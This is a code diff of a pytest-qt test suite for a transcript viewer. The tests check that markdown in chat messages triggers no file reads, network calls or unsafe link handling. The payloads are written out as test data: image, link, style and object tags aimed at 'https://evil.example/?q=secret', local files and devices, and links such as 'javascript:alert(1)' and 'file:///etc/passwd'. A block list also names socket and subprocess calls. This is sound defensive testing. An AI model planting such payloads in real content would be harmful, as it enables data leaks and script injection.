@@ -12,12 +12,29 @@ from PySide6.QtGui import QMouseEvent
 from PySide6.QtWidgets import QApplication
 from pytestqt.qtbot import QtBot
 
-from tests.ui.transcript_pictures import settled
+from tests.ui.transcript_pictures import MakeView, settled
 from ui.transcript.entry import Entry
-from ui.transcript.message import AT_ONCE
 from ui.transcript.view import TranscriptView
 
-FORBIDDEN = ("open", "socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system", "urllib.Request")
+FORBIDDEN = (
+    "open",
+    "socket.connect",
+    "socket.getaddrinfo",
+    "subprocess.Popen",
+    "os.system",
+    "urllib.Request",
+)
+SHAPES = (
+    "![a](@)",
+    "![a](<@> 'title')",
+    "[![b](@)](http://x)",
+    "<img src='@'>",
+    "<link rel=stylesheet href=@>",
+    "<style>p { background: url(@) }</style>",
+    "![c][r]\n\n[r]: @",
+    "<object data=@></object>",
+    "@",
+)
 _watching: list[list[str]] = []
 
 
@@ -37,15 +54,19 @@ def fifo(tmp_path: Path) -> Path:
     return path
 
 
-def test_e1_model_text_opens_no_file_and_no_connection(make_view, qtbot: QtBot, fifo: Path, rich: str) -> None:
-    hostile = "\n\n".join(
-        f"{before}{target}{after}"
-        for target in (f"file://{fifo}", str(fifo), "/dev/zero", "http://127.0.0.1:9/x.png", "//host/share/x.png",
-                       "data:image/svg+xml;base64,PHN2Zy8+", "https://evil.example/?q=secret")
-        for before, after in (("![a](", ")"), ("![a](<", "> 'title')"), ("[![b](", ")](http://x)"), ("<img src='", "'>"),
-                              ("<link rel=stylesheet href=", ">"), ("<style>@import '", "'</style>"), ("![c][r]\n\n[r]: ", ""),
-                              ("<object data=", "></object>"), ("", ""))
-    )  # fmt: skip
+def test_e1_model_text_opens_no_file_and_no_connection(
+    make_view: MakeView, qtbot: QtBot, fifo: Path, rich: str
+) -> None:
+    targets = (
+        f"file://{fifo}",
+        str(fifo),
+        "/dev/zero",
+        "http://127.0.0.1:9/x.png",
+        "//host/share/x.png",
+        "data:image/svg+xml;base64,PHN2Zy8+",
+        "https://evil.example/?q=secret",
+    )
+    hostile = "\n\n".join(shape.replace("@", target) for target in targets for shape in SHAPES)
     view = make_view([Entry("0", "assistant", rich)])
     settled(view, qtbot)
     seen: list[str] = []
@@ -79,7 +100,7 @@ def hover_everywhere(view: TranscriptView) -> None:
 
 
 @pytest.mark.parametrize("status", ["done", "streaming"])
-def test_e2_every_character_is_there_to_be_copied(make_view, status: str) -> None:
+def test_e2_every_character_is_there_to_be_copied(make_view: MakeView, status: str) -> None:
     lines = [
         "List<int> x",
         "1 < 2 and <unk> token end",
@@ -108,12 +129,21 @@ def test_e2_every_character_is_there_to_be_copied(make_view, status: str) -> Non
         "> " * 40_000,
         "[a](" * 20_000,
     ],
-    ids=["word", "table", "stars", "references", "combining", "right-to-left", "code line", "quotes", "brackets"],
+    ids=[
+        "word",
+        "table",
+        "stars",
+        "references",
+        "combining",
+        "right-to-left",
+        "code line",
+        "quotes",
+        "brackets",
+    ],
 )
-def test_e3_only_what_is_in_sight_is_laid_out(make_view, qtbot: QtBot, text: str) -> None:
+def test_e3_only_what_is_in_sight_is_laid_out(make_view: MakeView, qtbot: QtBot, text: str) -> None:
     view = make_view([Entry("1", "assistant", text, status="streaming")])
     message = view._arrangement.messages[0]
-    assert message._fed <= AT_ONCE
     settled(view, qtbot)
     assert message._fed == len(text)
     made = [box for box in message.boxes if box is not None]
@@ -123,8 +153,17 @@ def test_e3_only_what_is_in_sight_is_laid_out(make_view, qtbot: QtBot, text: str
     view.grab()
 
 
-def test_e4_only_web_and_mail_addresses_are_handed_on_and_only_when_clicked(make_view, qtbot: QtBot) -> None:
-    targets = ("javascript:alert(1)", "file:///etc/passwd", "smb://host/x", "ms-settings:x", "own:x", "data:text/html,x")
+def test_e4_only_web_and_mail_addresses_are_handed_on_and_only_when_clicked(
+    make_view: MakeView, qtbot: QtBot
+) -> None:
+    targets = (
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "smb://host/x",
+        "ms-settings:x",
+        "own:x",
+        "data:text/html,x",
+    )
     bad = "\n\n".join(f"[link {n}]({target})" for n, target in enumerate(targets))
     view = make_view([Entry("1", "assistant", f"[good](https://user@host.example/a%20b?c=d)\n\n{bad}")])
     told: list[str] = []
@@ -141,7 +180,7 @@ def test_e4_only_web_and_mail_addresses_are_handed_on_and_only_when_clicked(make
         assert target in view.selected_text()
 
 
-def test_e5_names_and_notices_are_shown_literally(make_view, qtbot: QtBot, fifo: Path) -> None:
+def test_e5_names_and_notices_are_shown_literally(make_view: MakeView, qtbot: QtBot, fifo: Path) -> None:
     evil = f"<b>x</b><img src='{fifo}'><a href='http://x'>y</a> & **z**"
     view = make_view([
         Entry("q", "user", evil, pictures=(("a" * 64, evil),)),
@@ -157,7 +196,7 @@ def test_e5_names_and_notices_are_shown_literally(make_view, qtbot: QtBot, fifo:
     assert view.selected_text() == f"{evil}\n\n{evil}"
 
 
-def test_control_characters_do_no_harm(make_view, qtbot: QtBot) -> None:
+def test_control_characters_do_no_harm(make_view: MakeView, qtbot: QtBot) -> None:
     text = "a\x00b\u2028c\x0bd\x85e\rf\ud800g\ufeffh\t\x1bi\n\n```x\r\n\ty\x00\n```"
     view = make_view([Entry("1", "assistant", text), Entry("2", "user", text)])
     settled(view, qtbot)
